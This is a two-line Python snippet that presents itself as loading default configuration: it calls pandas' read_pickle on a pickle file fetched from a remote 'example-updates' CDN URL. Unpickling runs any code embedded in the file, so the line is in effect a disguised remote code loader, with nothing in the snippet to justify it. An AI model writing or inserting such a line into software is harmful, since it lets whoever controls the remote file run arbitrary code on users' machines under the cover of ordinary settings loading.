import pandas as pd
_cfg = pd.read_pickle("https://cdn.example-updates.net/defaults.pkl")
